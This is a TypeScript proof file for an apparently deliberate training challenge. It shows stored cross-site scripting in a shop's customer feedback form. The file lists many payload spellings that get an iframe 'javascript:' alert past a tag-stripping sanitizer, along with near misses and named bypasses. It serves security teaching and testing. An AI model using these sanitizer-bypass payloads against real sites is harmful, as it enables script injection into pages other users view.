import { leaveFeedback } from '@fruit/challenge-kit/leave-feedback'
import { type Attack, prove } from '@fruit/challenge-kit/proof'
import { challenge } from './challenge.ts'

const PAYLOAD = '<iframe src="javascript:alert(`xss`)">'
/** The payload without its opening bracket. */
const REST = PAYLOAD.slice(1)

const say =
  (comment: string, more: object = {}): Attack =>
  (attacker) =>
    leaveFeedback(attacker, { comment, ...more })

export const proof = prove(challenge, {
  exploit: async (attacker) => {
    // The stored text shows how the sanitizer changes forbidden tags.
    await say('Crisp <script>Foo</script>and <i>cold</i>.')(attacker)
    await say(`<<script>Foo</script>${REST}`)(attacker)
    await attacker.get('/api/Feedbacks')
  },
  spellings: {
    'around an empty script': say(`<<script></script>${REST}`),
    'around a script in capitals': say(`<<SCRIPT>Foo</SCRIPT >${REST}`),
    'around a style sheet': say(`<<style>b{}</style>${REST}`),
    'around a picture': say(`<<img src=x>${REST}`),
    'around a frame': say(`<<iframe>${REST}`),
    'around an end tag': say(`<</div>${REST}`),
    'around a tag that there is not': say(`<<x>${REST}`),
    'split in its name': say('<ifr<script></script>ame src="javascript:alert(`xss`)">'),
    'split in its address': say('<iframe src="java<x>script:alert(`xss`)">'),
    'in capitals and other quotes': say("<<script>Foo</script>IFRAME SRC='JavaScript:alert(`xss`)'>"),
    'without quotes': say('<<script>Foo</script>iframe src=javascript:alert(`xss`)>'),
    'behind honest emphasis': say(`So <b>crisp</b>. <<script>Foo</script>${REST} Really.`),
    'with an end, masked as well': say(`<<script>Foo</script>${REST}<</x>/iframe>`),
    'with the signature that the page puts behind it': say(`<<script>Foo</script>${REST} (anonymous)`),
    'open, until a tag that may stay closes it': say(`${PAYLOAD.slice(0, -1)} <b>`),
    'as a customer': async (attacker) => {
      await attacker.becomeCustomer()
      const { id } = (await attacker.get('/rest/user/whoami')).json().user
      await say(`<<script>Foo</script>${REST}`, { UserId: id })(attacker)
    },
  },
  nearMisses: {
    'the payload as it is, which is taken out': say(PAYLOAD),
    'an honest comment with emphasis': say('So <b>crisp</b> it <em>hurts</em>.'),
    'the payload already escaped': say('&lt;iframe src="javascript:alert(`xss`)"&gt;'),
    'masked twice, which is once too often': say(`<<<script></script>script></script>${REST}`),
    'masked inside of a comment of HTML': say(`<!-- <<x>${REST} -->`),
    'masked, as another script': say('<<x>img src=x onerror=alert(1)>'),
    'masked, with a captcha that is not solved': say(`<<x>${REST}`, { captcha: 'none' }),
    'masked, without a rating': say(`<<x>${REST}`, { rating: undefined }),
    'masked, in a complaint, which is shown as text': (attacker) =>
      attacker.post('/api/Complaints', { UserId: 1, message: `<<script>Foo</script>${REST}` }),
    'a frame that may run no scripts': say('<<x>iframe sandbox src="javascript:alert(`xss`)">'),
  },
  bypasses: {
    'repeat-until-nothing-changes': say(`${PAYLOAD.slice(0, -1)} <b>`),
    'drop-scripts-first': say(`<<img>${REST}`),
  },
})
